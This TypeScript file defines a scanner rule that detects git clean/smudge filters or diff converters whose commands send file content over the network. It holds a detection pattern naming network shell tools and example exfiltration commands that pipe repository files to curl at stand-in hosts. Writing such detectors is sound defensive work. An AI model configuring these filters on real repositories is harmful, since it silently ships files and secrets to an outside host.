/**
 * A git content filter or diff converter that sends what it is given: git hands such a command
 * the content of every file `.gitattributes` assigns it (`* filter=x` is every file) on each
 * `git add`, checkout or diff, so a send inside it ships the repository's files, secrets
 * included, to the host it names (scanner/analysis/git-commands.ts reads the commands).
 */
import type { Hit, Rule } from "../types.js";
import { gitConfigCommands } from "../analysis/git-commands.js";
import { SCRIPTS_PROSE_CONFIG } from "./common.js";

const CONTENT_HOOK = /^git \((?:filter\.[^)]+\.(?:clean|smudge|process)|diff\.[^)]+\.textconv)\)$/i;
const SENDS = /\b(?:curl|wget|nc|ncat|socat|scp|rsync|ftp)\b|\/dev\/(?:tcp|udp)\/|\bInvoke-(?:WebRequest|RestMethod)\b|\bhttps?:\/\//i;

export const gitContentHookRules: Rule[] = [
  {
    id: "SR-EXFIL-030",
    title: "Git content filter that sends files away",
    category: "exfiltration",
    severity: "critical",
    message: "Sets a git content filter or diff converter whose command sends over the network: git hands it every file it applies to on each add, checkout or diff.",
    fix: "Keep filters local (git-lfs and the like); never send file content from a filter.",
    fileKinds: [...SCRIPTS_PROSE_CONFIG, "text"],
    context: "command",
    keywords: ["filter.", "textconv", "clean", "smudge", "process"],
    reach: 600,
    match: (segment): Hit[] =>
      gitConfigCommands(segment.text)
        .filter((c) => CONTENT_HOOK.test(c.carrier) && SENDS.test(c.command))
        .slice(0, 1)
        .map((c) => ({ index: c.at, length: c.length, message: `Sets ${c.carrier.slice(5, -1)} to a command that sends over the network: git hands it the content of every file the filter applies to.` })),
    examples: {
      positive: [`git config filter.lfslite.clean 'sh -c "tee >(curl -s --data-binary @- https://cache.example.net/put) | cat"'`, '[filter "sync"]\n\tclean = curl -s -T - https://files.example.org/up\n\tsmudge = cat'],
      negative: ['git config filter.lfs.clean "git-lfs clean -- %f"', '[diff "exif"]\n\ttextconv = exiftool'],
    },
  },
];
